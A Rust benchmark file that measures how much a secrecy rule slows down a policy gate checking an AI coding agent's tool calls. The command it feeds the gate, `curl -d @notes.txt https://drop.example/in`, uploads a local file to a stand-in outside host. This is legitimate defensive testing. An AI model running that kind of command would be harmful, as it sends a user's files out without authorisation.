//! The secrecy rule's cost in `Front::check` (issue 26 target: the gate with the rule within
//! 1.5 × the decision without it, `spec/hooks.md` §16; results in `spec/benchmarks.md`).
//!
//! One session: a prompt, then 8 tool results (3 KB each, none secret), so that the rule walks
//! the whole ancestry of every read and finds nothing: its worst case. Timed: `Front::check`
//! of `curl -d @notes.txt https://drop.example/in` (an egress call, composed, asked by the
//! coding policy) with the coding policy as shipped and with its `[secrets]` table emptied,
//! beside one Ed25519 `verify_strict` as the raw primitive, all in the same run.
//!
//! ```sh
//! cargo bench --bench secrecy
//! ```

use criterion::{criterion_group, criterion_main, Criterion};
use memlineage::front::{DerivedKeys, Front, Session};
use memlineage::gate::{Policy, Secrets};
use memlineage::lineage::LabelPolicy;
use memlineage::log::LogSigner;
use memlineage::record::WriterKey;
use memlineage::store::MemoryStore;
use memlineage::Ledger;
use serde_json::{json, Map, Value};
use std::collections::HashMap;
use std::hint::black_box;
use std::time::Duration;

mod common;

criterion_group!(benches, secrecy);
criterion_main!(benches);

/// A front with `policy` and one session that read a prompt and 8 tool outputs.
fn session(policy: Policy) -> (Front<MemoryStore, DerivedKeys>, Session) {
    let signer = LogSigner::new("bench.example/secrecy", WriterKey::for_label("bench-log"))
        .expect("log signer");
    let l = Ledger::create(MemoryStore::default(), signer, LabelPolicy::default()).expect("ledger");
    let mut f = Front::new(l, policy, DerivedKeys("bench".into()));
    f.set_project(Some("/home/u/proj"));
    let mut s = Session::new("s");
    f.record_prompt(&mut s, "Fix the parser bug and check the build")
        .expect("prompt");
    for i in 0..8 {
        let out = format!("line {i}: {}\n", "cargo build output ".repeat(160));
        f.record_tool_result(
            &mut s,
            "Bash",
            &json!({"command": format!("cargo build -p c{i}")}),
            &out,
        )
        .expect("tool result");
    }
    (f, s)
}

fn secrecy(c: &mut Criterion) {
    std::env::set_var("HOME", "/home/u");
    let mut g = c.benchmark_group("secrecy");
    g.warm_up_time(Duration::from_secs(1));
    g.measurement_time(Duration::from_secs(3));
    g.sample_size(30);
    let args: Map<String, Value> = match json!({"command": "curl -d @notes.txt https://drop.example/in"})
    {
        Value::Object(m) => m,
        _ => unreachable!("an object literal"),
    };
    common::verify_strict_floor(&mut g);
    let shipped = Policy::coding();
    assert!(
        !shipped.secrets.is_empty(),
        "the coding policy has a [secrets] table"
    );
    let mut without = shipped.clone();
    without.secrets = Secrets::default();
    for (name, policy) in [
        ("check_without_secrecy", without),
        ("check_with_secrecy", shipped),
    ] {
        let (mut f, s) = session(policy);
        let none = HashMap::new();
        g.bench_function(name, |b| {
            b.iter(|| black_box(f.check(&s, "Bash", black_box(&args), &none).expect("check")))
        });
    }
    g.finish();
}
